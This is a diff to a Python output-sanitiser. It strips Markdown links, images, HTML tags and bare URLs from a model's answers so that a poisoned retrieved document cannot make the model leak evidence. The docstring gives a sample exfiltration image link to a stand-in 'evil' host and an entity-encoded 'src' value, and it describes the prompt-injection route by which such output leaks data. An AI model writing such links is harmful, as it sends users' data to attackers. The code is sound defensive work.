@@ -3,14 +3,25 @@
 A poisoned document can talk a model into writing `![x](https://evil/?q=<other evidence>)`:
 a client that renders the answer as Markdown or HTML would fetch that URL and hand the
 evidence (or the question) to whoever runs it. So, in what the model writes, every
-Markdown link, image, autolink, raw `<a>`/`<img>` tag and bare URL whose target is not
+Markdown link, image, autolink, HTML tag that can fetch and bare URL whose target is not
 the `uri` of a document given as evidence loses its target: a link keeps its text, an
-image its alt text, a bare URL becomes `(link removed)`. A target of a scheme other than
+image its alt text, a bare URL becomes `(link removed)`. A bare URL is a scheme and `//`
+(or `\\\\`, `/\\`: browsers read a backslash there as a slash), `www.`, or `//` and a
+dotted host, which linkify-style renderers make a link of. A target of a scheme other than
 `http(s)` (`javascript:`, `data:`, `vbscript:`, in any case or disguise) is removed even
 when it is a document's `uri` (`gateway/uris.py`): ingest refuses those, but one may have
 been stored before it did. Markdown's less common forms count too: a destination after
 spaces or on the next line, link text over two lines, and reference definitions
 (`[1]: target`); there, a word that names no scheme and no other host (`see above`) stays.
+
+HTML is never needed in an answer, but `a <b> c`, `x < y` and `List<String>` are prose or
+code, so a tag stays when it can fetch nothing: it has no attribute value (no `=`, which
+every URL an attribute carries needs) and is not `<a>`, `<img>` (whose closing tags go
+with them), `<script>` or `<style>` (whose content a browser runs or fetches). Any other
+tag goes whole. A tag not closed on its own line (or before another `<`) keeps its text
+but gets a space after its `<` (`< img`), which starts no tag: a browser would run it on
+to a `>` lines later, past where the stream settles, with attribute values no line alone
+shows as a URL (`src=&#47;&#47;evil`).
 
 Streamed text is neutralised the same way. No construct spans a line end, or a space
 outside every bracket (each closing bracket closes only its own kind), so text is settled
@@ -38,8 +49,16 @@ _SPLIT = re.compile(r"\][(:][ \t]*\n")
 # A target holds no bracket but its own `<...>`: the stream's bracket count must agree.
 _DESTINATION = re.compile(r"(\]\([ \t]*|\]:[ \t]*)(<[^\s<>]*>|[^\s()<>\[\]]+)")
 _AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*:[^>\s]*)>")
-_TAG = re.compile(r"</?(?:a|img)\b[^>\n]*>", re.IGNORECASE)
-_BARE = re.compile(r"(?:\b[A-Za-z][A-Za-z0-9+.-]*://|\bwww\.)[^\s<>()\[\]]+")
+# An HTML tag up to its `>` on the same line; one that meets a line's end or another `<`
+# first is open (a browser's tag would take in what follows, a URL taken out included).
+_TAG = re.compile(r"</?([A-Za-z][A-Za-z0-9]*)([^<>\n]*)(>?)")
+_ALWAYS_REMOVED = frozenset({"a", "img", "script", "style"})
+# The scheme two letters or more, so that a drive's `C:\\` stays; `//` after no word,
+# colon or slash, as linkify reads it.
+_BARE = re.compile(
+    r"(?:\b[A-Za-z][A-Za-z0-9+.-]+:[/\\]{2}|\bwww\.|(?<![\w:/\\])//(?=[^\s<>()\[\]/]*\.))"
+    r"[^\s<>()\[\]]+"
+)
 _OPENER = {"]": "[", ")": "(", ">": "<"}  # each closing bracket, and the one it closes
 
 
@@ -60,6 +79,14 @@ def neutralise(text: str, allowed: Collection[str]) -> str:
     def bare(m: re.Match[str]) -> str:
         return m.group(0) if m.group(0) in allowed else REMOVED
 
+    def tag(m: re.Match[str]) -> str:
+        name, rest, closed = m.groups()
+        if not closed:  # a browser's tag would run on past what we see: let none start
+            return "< " + m.group(0)[1:]
+        if _AUTOLINK.fullmatch(m.group(0)):  # one to the evidence: `autolink` took the rest
+            return m.group(0)
+        return "" if "=" in rest or name.lower() in _ALWAYS_REMOVED else m.group(0)
+
     def destination(m: re.Match[str]) -> str:
         target = m.group(2)
         if target in allowed or not _followed(target):
@@ -76,7 +103,7 @@ def neutralise(text: str, allowed: Collection[str]) -> str:
         text = _IMAGE.sub(image, text)
         text = _LINK.sub(link, text)
         text = _AUTOLINK.sub(autolink, text)
-        text = _TAG.sub("", text)
+        text = _TAG.sub(tag, text)
     # What is left of a link is an allowed link, which keeps its target; any other URL goes.
     kept = [m.span() for m in _LINK.finditer(text)] + [m.span() for m in _IMAGE.finditer(text)]
     return _BARE.sub(lambda m: m.group(0) if _inside(m.start(), kept) else bare(m), text)
